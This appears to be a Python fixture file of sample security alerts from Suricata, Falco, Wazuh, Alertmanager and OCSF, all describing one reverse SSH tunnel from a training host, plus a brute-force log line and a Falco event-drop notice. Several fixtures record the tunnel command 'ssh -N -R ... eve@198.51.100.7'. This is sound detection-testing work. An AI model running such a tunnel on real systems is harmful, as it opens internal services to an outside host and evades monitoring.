"""What each product sends, as its documents and sources describe it, about one tunnel of one host."""

from typing import Any

SURICATA: dict[str, Any] = {
    "timestamp": "2026-11-18T11:06:42.123456+0000",
    "flow_id": 1234567890123456,
    "in_iface": "eth0",
    "event_type": "alert",
    "src_ip": "10.0.0.5",
    "src_port": 40000,
    "dest_ip": "198.51.100.7",
    "dest_port": 22,
    "proto": "TCP",
    "app_proto": "ssh",
    "community_id": "1:abc=",
    "alert": {
        "action": "allowed",
        "gid": 1,
        "signature_id": 9000001,
        "rev": 1,
        "signature": "Outbound SSH to an unknown host",
        "category": "Potential Corporate Privacy Violation",
        "severity": 1,
        "metadata": {"mitre_technique_id": ["T1572"]},
    },
    "flow": {"pkts_toserver": 3, "start": "2026-11-18T11:06:42.000000+0000"},
}
FALCO: dict[str, Any] = {
    "hostname": "trainer-7",
    "output": "11:06:42.000000042: Notice Redirect stdout/stdin to network connection",
    "output_fields": {
        "container.id": "3ad7b26ded6d",
        "container.image.repository": "registry.example/rl",
        "evt.time": 1795000002000000042,
        "fd.cip": "10.0.0.5",
        "fd.cport": 40000,
        "fd.l4proto": "tcp",
        "fd.sip": "198.51.100.7",
        "fd.sport": 22,
        "k8s.ns.name": None,
        "proc.cmdline": "ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7",
        "proc.pid": 200,
        "user.name": "root",
    },
    "priority": "Notice",
    "rule": "Redirect STDOUT/STDIN to Network Connection",
    "source": "syscall",
    "tags": ["container", "mitre_execution", "T1059"],
    "time": "2026-11-18T11:06:42.000000042Z",
}
FALCO_DROPS: dict[str, Any] = {
    "hostname": "trainer-7",
    "output": "Falco internal: syscall event drop. 1100000 system calls dropped in last second.",
    "output_fields": {"n_drops": 1100000, "n_evts": 2000000, "n_drops_buffer_total": 1100000},
    "priority": "Debug",
    "rule": "Falco internal: syscall event drop",
    "source": "internal",
    "time": "2026-11-18T11:06:43.000000000Z",
}
WAZUH_4: dict[str, Any] = {
    "timestamp": "2026-11-18T11:06:42.333+0000",
    "rule": {
        "level": 10,
        "description": "sshd: brute force trying to get access to the system.",
        "id": "5763",
        "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
        "firedtimes": 1,
        "groups": ["syslog", "sshd", "authentication_failures"],
    },
    "agent": {"id": "007", "name": "trainer-7", "ip": "10.0.0.5"},
    "manager": {"name": "wazuh-manager"},
    "id": "1795000002.55",
    "full_log": "Nov 18 11:06:42 trainer-7 sshd[200]: Failed password for root from 203.0.113.9 port 55 ssh2",
    "decoder": {"name": "sshd"},
    "data": {"srcip": "203.0.113.9", "srcport": "55", "dstuser": "root"},
    "location": "/var/log/auth.log",
}
WAZUH_5: dict[str, Any] = {
    "@timestamp": "2026-11-18T11:06:42.333Z",
    "wazuh": {
        "agent": {"id": "007", "name": "trainer-7", "host": {"ip": ["10.0.0.5"]}},
        "rule": {"id": "ssh-tunnel", "title": "Reverse SSH tunnel", "level": "high"},
    },
    "event": {"id": "f3a1", "category": ["network"], "action": "connection", "original": "..."},
    "threat": {"technique": {"id": ["T1572"], "name": ["Protocol Tunneling"]}},
    "source": {"ip": "10.0.0.5", "port": 40000},
    "destination": {"ip": "198.51.100.7", "port": 22},
    "network": {"transport": "tcp"},
    "process": {"pid": 200, "command_line": "ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7"},
    "user": {"name": "root"},
}
_FIRING: dict[str, Any] = {
    "status": "firing",
    "labels": {"alertname": "GpuBusyAtNight", "instance": "trainer-7:9400", "severity": "high"},
    "annotations": {"summary": "GPUs are busy and no step moves", "description": "95 % for 10 min"},
    "startsAt": "2026-11-18T11:06:42.5Z",
    "endsAt": "0001-01-01T00:00:00Z",
    "generatorURL": "http://prometheus.example/graph",
    "fingerprint": "c9a1",
}
ALERTMANAGER: dict[str, Any] = {
    "version": "4",
    "groupKey": '{}:{alertname="GpuBusyAtNight"}',
    "truncatedAlerts": 0,
    "status": "firing",
    "receiver": "sentinel",
    "groupLabels": {"alertname": "GpuBusyAtNight"},
    "commonLabels": {"alertname": "GpuBusyAtNight"},
    "commonAnnotations": {},
    "externalURL": "http://alertmanager.example",
    "alerts": [_FIRING, _FIRING | {"status": "resolved", "fingerprint": "d0b2"}],
}
OCSF: dict[str, Any] = {
    "activity_id": 1,
    "category_uid": 2,
    "class_uid": 2004,
    "type_uid": 200401,
    "time": 1795000002500,
    "severity_id": 4,
    "metadata": {"version": "1.8.0", "product": {"name": "EDR", "vendor_name": "Example"}},
    "finding_info": {
        "uid": "F-1",
        "title": "Reverse tunnel",
        "types": ["Command and Control"],
        "analytic": {"uid": "R-7", "name": "tunnels", "type_id": 1},
        "attacks": [{"technique": {"uid": "T1572", "name": "Protocol Tunneling"}, "version": "16"}],
    },
    "device": {"hostname": "trainer-7", "ip": "10.0.0.5", "type_id": 1},
    "evidences": [
        {
            "process": {"pid": 200, "cmd_line": "ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7"},
            "src_endpoint": {"ip": "10.0.0.5", "port": 40000},
            "dst_endpoint": {"ip": "198.51.100.7", "port": 22},
            "connection_info": {"protocol_name": "tcp", "direction_id": 2},
        }
    ],
}
